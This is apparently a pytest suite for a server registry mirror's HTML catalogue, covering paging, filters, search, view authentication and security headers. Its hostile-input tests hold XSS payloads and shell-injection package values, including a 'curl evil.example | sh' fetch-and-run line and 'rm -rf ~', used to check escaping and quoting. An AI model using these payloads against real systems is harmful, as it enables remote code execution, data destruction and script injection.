"""The catalogue web page over plain HTTP (issue #14): what it lists, how it pages, what a
detail page says, that upstream text is escaped, and that it sits behind each view's auth.
Over mirrors built by the real engine and curator, served by the real app on a loopback port."""

from __future__ import annotations

import html
import json
import re
import shlex
import shutil
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from sync.app import create_app
from sync.config import Config, config_from_mapping
from sync.curate.curation import Curator
from sync.metrics import Metrics
from sync.pull.engine import Engine
from sync.serve.page import CSP, MAX_SCAN, PAGE_SIZE, SEARCH_LIMIT, find
from sync.serve.pages.facts import install_hint
from sync.store import open_reader, open_store
from sync.store.sqlite.reader import SqliteReader
from tests.fake_upstream import OFFICIAL, FakeRegistry
from tests.helpers import MULTI, mirror_config, no_sleep, serving

LINK = re.compile(r'<a href="([^"]*)"')
SERVER_LINK = re.compile(r'<a href="(/[^"]*ui/servers/[^"]*)"')
REL = re.compile(r'<a rel="(prev|next)" href="([^"]*)"')


def page_names(text: str) -> list[str]:
    """The server names a catalogue page lists, in order (from their detail links)."""
    from urllib.parse import unquote  # noqa: PLC0415

    return [
        unquote(html.unescape(h).rsplit("/ui/servers/", 1)[1]) for h in SERVER_LINK.findall(text)
    ]


def rel(text: str, which: str) -> str | None:
    for kind, href in REL.findall(text):
        if kind == which:
            return html.unescape(href)
    return None


def config_for(path: Path, **extra: Any) -> Config:
    return config_from_mapping(
        {
            "storage": {"path": str(path)},
            "upstreams": [{"name": "official", "url": "http://127.0.0.1:9", "page_delay": 0}],
            **extra,
        }
    )


@pytest.fixture
async def client_for() -> AsyncIterator[Callable[..., Any]]:
    clients: list[TestClient[Any, Any]] = []

    async def make(config: Config) -> TestClient[Any, Any]:
        client = TestClient(TestServer(create_app(config, sync=False)))
        await client.start_server()
        clients.append(client)
        return client

    yield make
    for client in clients:
        await client.close()


@pytest.fixture
def db(tmp_path: Path, mirror_db: Path) -> Path:
    path = tmp_path / "mirror.db"
    shutil.copy(mirror_db, path)
    return path


async def text_of(client: TestClient[Any, Any], path: str, status: int = 200) -> str:
    response = await client.get(path)
    body = await response.text()
    assert response.status == status, (path, body[:300])
    return body


async def latest_rows(db: Path, view: str = "default") -> list[tuple[str, str, Any, Any]]:
    reader = await SqliteReader.open(db)
    try:
        rows = [
            (n, v, json.loads(s), json.loads(m))
            async for n, v, s, m in reader.export(view)
            if json.loads(m)[OFFICIAL]["isLatest"]
            and json.loads(m)[OFFICIAL]["status"] != "deleted"
        ]
    finally:
        await reader.close()
    return sorted(rows, key=lambda r: (r[0], r[1]))


async def walk(client: TestClient[Any, Any], start: str) -> list[list[str]]:
    pages, url = [], start
    while url is not None:
        body = await text_of(client, url)
        pages.append(page_names(body))
        url = rel(body, "next")
    return pages


class TestCatalogue:
    async def test_pages_forward_list_every_latest_server_and_back_returns(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        pages = await walk(client, "/")
        expected = [r[0] for r in await latest_rows(db)]
        assert [n for page in pages for n in page] == expected
        assert all(len(page) == PAGE_SIZE for page in pages[:-1]) and len(pages) > 50
        # Back from the last page: the previous pages in turn (as far as the trail reaches),
        # then the first.
        body = await text_of(client, "/")
        for _ in range(len(pages) - 1):
            nxt = rel(body, "next")
            assert nxt is not None
            body = await text_of(client, nxt)
        seen = []
        while (back := rel(body, "prev")) is not None:
            body = await text_of(client, back)
            seen.append(page_names(body))
        reached = min(50, len(pages) - 1)
        assert seen[:reached] == pages[-2 : -2 - reached : -1]
        assert seen[-1] == pages[0]

    @pytest.mark.parametrize(
        ("query", "wanted"),
        [
            (
                "registry=pypi",
                lambda s, m: any(p.get("registryType") == "pypi" for p in s.get("packages") or []),
            ),
            ("transport=remote", lambda s, m: bool(s.get("remotes"))),
            (
                "transport=sse",
                lambda s, m: (
                    any(
                        (p.get("transport") or {}).get("type") == "sse"
                        for p in s.get("packages") or []
                    )
                    or any(r.get("type") == "sse" for r in s.get("remotes") or [])
                ),
            ),
            ("upstream=official", lambda s, m: True),
        ],
    )
    async def test_filters_list_exactly_the_matching_servers(
        self, client_for: Callable[..., Any], db: Path, query: str, wanted: Any
    ) -> None:
        client = await client_for(config_for(db))
        pages = await walk(client, "/?" + query)
        expected = [r[0] for r in await latest_rows(db) if wanted(r[2], r[3])]
        assert [n for page in pages for n in page] == expected and expected

    async def test_a_status_filter_lists_every_version_with_that_status(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        deprecated = await text_of(client, "/?status=deprecated")
        assert page_names(deprecated) == ["ai.exa/exa"]
        assert "3.0.7" in deprecated
        deleted = await walk(client, "/?status=deleted")
        assert [n for page in deleted for n in page] == [MULTI]

    async def test_a_rare_filter_reads_a_bounded_slice_per_page_and_reads_on(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        """No version comes from `down`: each page reads at most its scan budget, says so,
        and links on, until the end of the catalogue."""
        config = config_for(db)
        config = config.model_copy(
            update={
                "upstreams": (
                    *config.upstreams,
                    config.upstreams[0].model_copy(update={"name": "down"}),
                )
            }
        )
        client = await client_for(config)
        url: str | None = "/?status=active&upstream=down"
        pages = []
        while url is not None:
            body = await text_of(client, url)
            pages.append(body)
            url = rel(body, "next")
        # 2,626 active versions: one full budget, then the rest.
        assert len(pages) == 2 and MAX_SCAN < 2626 <= 2 * MAX_SCAN
        assert all(page_names(p) == [] for p in pages)
        assert 'class="partial" role="status"' in pages[0]
        assert 'class="partial"' not in pages[1]

    async def test_search_shows_what_find_returns_filtered(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        reader = await SqliteReader.open(db)
        try:
            hits = [h[0] for h in await find(reader, "default", "github", SEARCH_LIMIT)]
        finally:
            await reader.close()
        assert len(hits) > PAGE_SIZE
        pages = await walk(client, "/?q=github")
        assert [n for page in pages for n in page] == hits
        body = await text_of(client, rel(await text_of(client, "/?q=github"), "next") or "")
        back = rel(body, "prev")
        assert back is not None and page_names(await text_of(client, back)) == pages[0]
        assert page_names(await text_of(client, "/?q=no-such-server-anywhere")) == []

    async def test_bad_input_gets_a_page_with_the_error(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        for path in ("/?cursor=%25%25", "/?registry=cargo", "/?status=gone", "/?q=x&start=a"):
            body = await text_of(client, path, 400)
            assert 'role="alert"' in body
        body = await text_of(client, "/ui/servers/no.such%2Fserver", 404)
        assert "serves no server by that name" in body
        response = await client.post("/", data=b"")
        assert response.status == 405
        # A path no view has is still the API's 404 problem.
        response = await client.get("/no/such/view")
        assert response.status == 404
        assert (await response.json())["detail"] == "Endpoint not found"


class TestServerPage:
    async def test_every_version_with_status_and_install_hints(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        body = await text_of(client, "/ui/servers/" + MULTI.replace("/", "%2F"))
        reader = await SqliteReader.open(db)
        try:
            versions = await reader.versions("default", MULTI, include_deleted=True)
        finally:
            await reader.close()
        listed = re.findall(r'<summary><span class="version">([^<]*)</span>', body)
        assert listed == [html.escape(v[1]) for v in versions] and len(listed) == 72
        assert body.count('class="badge status-deleted">deleted<') == 1
        assert "Upstream</dt><dd>official</dd>" in body
        assert "<caption>Every stored copy, and the rules that acted on it</caption>" in body

    async def test_install_hints_per_registry_type(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        commands = {
            "npm": "npx {i}@{v}",
            "pypi": "uvx {i}=={v}",
            "nuget": "dnx {i}@{v} --yes",
        }
        checked = set()
        for name, _, server, _ in await latest_rows(db):
            for package in server.get("packages") or []:
                kind, version = package.get("registryType"), package.get("version")
                if kind in checked or kind not in (*commands, "oci", "mcpb"):
                    continue
                if kind in commands and not version:
                    continue
                # Runtime arguments (and docker's `-e NAME`) come between launcher and package.
                if package.get("runtimeArguments") or package.get("environmentVariables"):
                    continue
                body = await text_of(client, "/ui/servers/" + name.replace("/", "%2F"))
                identifier = package["identifier"]
                if kind == "mcpb":
                    expected = f'<a href="{html.escape(identifier)}"'
                elif kind == "oci":
                    expected = "docker run -i --rm " + identifier
                else:
                    expected = commands[kind].format(i=identifier, v=version)
                assert html.escape(expected, quote=False) in body or expected in body, (
                    name,
                    expected,
                )
                checked.add(kind)
            for remote in server.get("remotes") or []:
                if "remote" not in checked and remote.get("url", "").startswith("https://"):
                    body = await text_of(client, "/ui/servers/" + name.replace("/", "%2F"))
                    assert f'<a href="{html.escape(remote["url"])}"' in body
                    checked.add("remote")
        assert checked == {"npm", "pypi", "oci", "nuget", "mcpb", "remote"}


def hostile_items() -> list[dict[str, Any]]:
    stamp = "2025-10-01T00:00:00Z"
    meta = {
        OFFICIAL: {"status": "active", "publishedAt": stamp, "updatedAt": stamp, "isLatest": True}
    }
    evil = {
        "name": "io.github.evil/x",
        "version": "1.0.0",
        "title": '"><img src=x onerror=alert(2)>',
        "description": "<script>alert(1)</script>",
        "repository": {"url": "javascript:alert(3)", "source": "github"},
        "websiteUrl": "data:text/html,<script>alert(4)</script>",
        "packages": [
            {
                "registryType": "npm",
                "identifier": "<b>pkg</b>",
                "version": "1",
                "transport": {"type": "stdio"},
            }
        ],
        "remotes": [{"type": "sse", "url": "javascript:alert(5)"}],
    }
    plain = {"name": "io.github.evil/gone", "version": "2.0.0", "description": "dropped later"}
    return [{"server": evil, "_meta": meta}, {"server": plain, "_meta": meta}]


@pytest.fixture
async def hostile_db(tmp_path: Path) -> Path:
    """A mirror of a hostile server and one the rules then drop (its version withdrawn),
    with an enrichment on the hostile one."""
    path = tmp_path / "hostile.db"
    fake = FakeRegistry(hostile_items())
    async with serving(fake.app()) as url:
        config = config_from_mapping(
            {"storage": {"path": str(path)}, "upstreams": [{"name": "official", "url": url}]}
        )
        store = await open_store(config.storage)
        try:
            engine = Engine(config, store, Metrics(), sleep=no_sleep)
            assert (await engine.run("official")).outcome == "ok"
            await engine.close()
        finally:
            await store.close()
    store = await open_store(hostile_config(path).storage)
    try:
        await Curator(hostile_config(path), store, Metrics()).reapply()
    finally:
        await store.close()
    return path


def hostile_config(path: Path) -> Config:
    return config_for(
        path,
        filter={"exclude": ["io.github.evil/gone"]},
        enrich=[{"match": "io.github.evil/x", "meta": {"team": "<i>red</i>"}}],
    )


class TestHostileInput:
    async def test_upstream_text_is_escaped_and_only_http_urls_are_links(
        self, client_for: Callable[..., Any], hostile_db: Path
    ) -> None:
        client = await client_for(hostile_config(hostile_db))
        for path in ("/", "/?q=evil", "/ui/servers/io.github.evil%2Fx"):
            body = await text_of(client, path)
            assert "<script>alert" not in body and "<img src=x" not in body, path
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body, path
            hrefs = LINK.findall(body)
            assert not [h for h in hrefs if not h.startswith("/")], (path, hrefs)
        detail = await text_of(client, "/ui/servers/io.github.evil%2Fx")
        assert "<b>pkg" not in detail and "npx &#39;&lt;b&gt;pkg&lt;/b&gt;@1&#39;" in detail
        assert "<code>javascript:alert(3)</code>" in detail
        assert "&lt;i&gt;red&lt;/i&gt;" in detail and "<code>team</code>" in detail

    @pytest.mark.parametrize(
        ("package", "command"),
        [
            (
                {"registryType": "npm", "identifier": "left-pad; curl -s evil.example | sh #"},
                "npx 'left-pad; curl -s evil.example | sh #'",
            ),
            (
                {"registryType": "pypi", "identifier": "tool", "version": "1$(id>/tmp/pwn)"},
                "uvx 'tool==1$(id>/tmp/pwn)'",
            ),
            (
                {"registryType": "oci", "identifier": "img\nrm -rf ~"},
                "docker run -i --rm 'img\nrm -rf ~'",
            ),
            (
                {"registryType": "nuget", "identifier": "Pkg", "version": "1.0`reboot`"},
                "dnx 'Pkg@1.0`reboot`' --yes",
            ),
            (
                {"registryType": "npm", "identifier": "@scope/pkg", "version": "1.2.3"},
                "npx @scope/pkg@1.2.3",
            ),
        ],
    )
    def test_an_install_hint_is_one_inert_shell_word_per_argument(
        self, package: dict[str, Any], command: str
    ) -> None:
        """A hint is copied into a shell: upstream text in it never becomes a command."""
        hint = install_hint(package)
        assert hint.command == command
        # Read back by a shell: the launcher, then the package as one word, nothing more.
        words = shlex.split(hint.command)
        assert words[-1].startswith(package["identifier"]) or words[-1] == "--yes"
        assert len(words) <= 5

    async def test_a_withdrawn_version_says_why(
        self, client_for: Callable[..., Any], hostile_db: Path
    ) -> None:
        client = await client_for(hostile_config(hostile_db))
        body = await text_of(client, "/ui/servers/io.github.evil%2Fgone")
        reason = "name matches &#39;io.github.evil/gone&#39;"
        assert f"<strong>Withdrawn:</strong> {reason}" in body
        assert "<code>filter.exclude</code>: drop" in body
        assert "io.github.evil/gone" not in page_names(await text_of(client, "/"))


class TestViews:
    def views(self, path: Path, tokens: Path) -> Config:
        return config_for(
            path,
            views=[
                {
                    "name": "payments",
                    "base_path": "/teams/payments",
                    "filter": {"include": ["ai.exa/*"]},
                },
                {
                    "name": "private",
                    "base_path": "/teams/data/catalogue",
                    "filter": {"include": ["io.github.a*"]},
                    "auth": {"type": "bearer", "tokens_file": str(tokens)},
                },
            ],
        )

    async def test_each_view_has_its_pages_behind_its_auth(
        self, client_for: Callable[..., Any], db: Path, tmp_path: Path
    ) -> None:
        tokens = tmp_path / "tokens"
        tokens.write_text("s3cret\n")
        config = self.views(db, tokens)
        store = await open_store(config.storage)
        try:
            await Curator(config, store, Metrics()).reapply()
        finally:
            await store.close()
        client = await client_for(config)
        assert page_names(await text_of(client, "/teams/payments")) == ["ai.exa/exa"]
        detail = await text_of(client, "/teams/payments/ui/servers/ai.exa%2Fexa")
        assert 'href="/teams/payments"' in detail
        await text_of(client, "/teams/payments/ui/status")
        await text_of(client, "/teams/payments/ui/servers/" + MULTI.replace("/", "%2F"), 404)
        response = await client.get("/teams/payments/", allow_redirects=False)
        assert response.status == 308 and response.headers["Location"] == "/teams/payments"
        for path in ("/teams/data/catalogue", "/teams/data/catalogue/ui/status"):
            response = await client.get(path)
            assert response.status == 401 and "Bearer" in response.headers["WWW-Authenticate"]
            response = await client.get(path, headers={"Authorization": "Bearer s3cret"})
            assert response.status == 200 and response.headers["Cache-Control"] == "private"
            names = page_names(await response.text())
            assert all(n.startswith("io.github.a") for n in names)

    async def test_a_protected_default_view_s_holdings_stay_out_of_an_open_view(
        self, client_for: Callable[..., Any], db: Path, tmp_path: Path
    ) -> None:
        """With `[api.auth]`, what the default view holds is for its readers: an open view's
        detail page leaves out the explain report (every stored copy and every rule's
        verdict), and its status page the upstreams' passes and quarantine."""
        tokens = tmp_path / "tokens"
        tokens.write_text("s3cret\n")
        config = config_for(
            db,
            api={"auth": {"type": "bearer", "tokens_file": str(tokens)}},
            views=[{"name": "pub", "base_path": "/pub", "filter": {"include": ["ai.exa/*"]}}],
        )
        store = await open_store(config.storage)
        try:
            await Curator(config, store, Metrics()).reapply()
        finally:
            await store.close()
        client = await client_for(config)
        assert (await client.get("/ui/servers/ai.exa%2Fexa")).status == 401
        detail = await text_of(client, "/pub/ui/servers/ai.exa%2Fexa")
        assert "ai.exa/exa" in detail and 'class="provenance"' not in detail
        status = await text_of(client, "/pub/ui/status")
        assert "Upstream official" not in status
        # The default view's own readers see both.
        bearer = {"Authorization": "Bearer s3cret"}
        response = await client.get("/ui/servers/ai.exa%2Fexa", headers=bearer)
        assert 'class="provenance"' in await response.text()
        response = await client.get("/ui/status", headers=bearer)
        assert "Upstream official" in await response.text()

    async def test_the_default_view_moves_with_its_base_path(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db, api={"base_path": "/registry"}))
        assert page_names(await text_of(client, "/registry"))
        assert (await client.get("/")).status == 404


class TestDelivery:
    async def test_html_has_csp_viewport_and_only_own_assets(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        client = await client_for(config_for(db))
        for path in ("/", "/ui/status", "/ui/servers/ai.exa%2Fexa", "/?cursor=%25"):
            response = await client.get(path)
            body = await response.text()
            assert response.headers["Content-Security-Policy"] == CSP
            assert response.content_type == "text/html"
            assert '<meta name="viewport"' in body and '<html lang="en">' in body
            # What the page loads (scripts, styles, icons; links are the reader's to follow):
            # same origin only, paths, never a scheme or `//host`.
            assets = re.findall(r'<(?:script|img|link)[^>]* (?:src|href)="([^"]*)"', body)
            assert len(assets) == 3
            assert all(a.startswith("/") and not a.startswith("//") for a in assets), assets
        body = await text_of(client, "/")
        for asset in re.findall(r'(?:src|href)="(/ui/static/[^"]*)"', body):
            response = await client.get(html.unescape(asset))
            assert response.status == 200
            assert response.headers["Cache-Control"] == "public, max-age=31536000, immutable"
        assert (await client.get("/ui/static/../../pyproject.toml")).status == 404

    async def test_every_view_route_is_registered_before_the_catch_all(
        self, client_for: Callable[..., Any], db: Path
    ) -> None:
        """`/{base}` matches any path: a view route added after it would be unreachable."""
        client = await client_for(config_for(db))
        canonicals = [r.canonical for r in client.app.router.resources()]
        catch_all = canonicals.index("/{base}")
        based = [i for i, c in enumerate(canonicals) if c.startswith("/{base}/")]
        assert based and max(based) < catch_all


class TestStatusPage:
    async def test_each_upstreams_passes_failures_and_quarantine(
        self, client_for: Callable[..., Any], tmp_path: Path
    ) -> None:
        path = tmp_path / "status.db"
        fake = FakeRegistry(hostile_items())
        fake.add_raw({"name": "io.github.bad/<x>", "version": 5})  # refused: quarantined
        async with serving(fake.app()) as url:
            config = config_from_mapping(
                {
                    "storage": {"path": str(path)},
                    "upstreams": [
                        {"name": "official", "url": url},
                        {"name": "down", "url": "http://127.0.0.1:9", "retries": 0},
                    ],
                }
            )
            store = await open_store(config.storage)
            try:
                engine = Engine(config, store, Metrics(), sleep=no_sleep, backoff=(0.0, 0.0))
                assert (await engine.run("official")).outcome == "ok"
                assert (await engine.run("down")).outcome == "failed"
                await engine.close()
            finally:
                await store.close()
        client = await client_for(config)
        body = await text_of(client, "/ui/status")
        official, down = body.split("<h2 id=")[2:4]
        assert ">Upstream official</h2>" in official and ">Upstream down</h2>" in down
        assert "<dt>Quarantine</dt><dd>1 entries</dd>" in official
        assert "missing or non-string &#39;version&#39;" in official
        assert "<td>full</td>" in official and "<td>ok</td>" in official
        assert "<dt>Failures in a row</dt><dd>1" in down and "<dt>Last error</dt>" in down
        assert "<td>failed</td>" in down
        assert "<dt>Last successful pass</dt><dd>never</dd>" in down


class TestPostgres:
    async def test_the_pages_read_a_postgresql_mirror_as_a_sqlite_one(
        self, client_for: Callable[..., Any], db: Path, pg_mirror: str, tmp_path: Path
    ) -> None:
        """Both mirrors are built by the engine from the same catalogue: the same pages."""
        sqlite = await client_for(config_for(db))
        postgres = await client_for(mirror_config(tmp_path / "unused.db", storage_url=pg_mirror))
        for path in ("/", "/?registry=oci", "/?status=deprecated"):
            on_sqlite = await text_of(sqlite, path)
            on_postgres = await text_of(postgres, path)
            assert page_names(on_postgres) == page_names(on_sqlite) != [], path
            assert rel(on_postgres, "next") == rel(on_sqlite, "next"), path
        # Ranked search scores with each database's own ranking (FTS5 bm25, ts_rank_cd): a
        # term matching a thousand servers orders them differently on each, so the page shows
        # its own backend's ranking (the judged set checks both rank well).
        config = mirror_config(tmp_path / "unused.db", storage_url=pg_mirror)
        reader = await open_reader(config.storage)
        try:
            hits = [h[0] for h in await find(reader, "default", "github", SEARCH_LIMIT)]
        finally:
            await reader.close()
        assert len(hits) > PAGE_SIZE
        assert [n for page in await walk(postgres, "/?q=github") for n in page] == hits
        detail = "/ui/servers/" + MULTI.replace("/", "%2F")
        version = re.compile(r'<summary><span class="version">([^<]*)</span>')
        assert version.findall(await text_of(postgres, detail)) == version.findall(
            await text_of(sqlite, detail)
        )
        assert "Upstream official" in await text_of(postgres, "/ui/status")
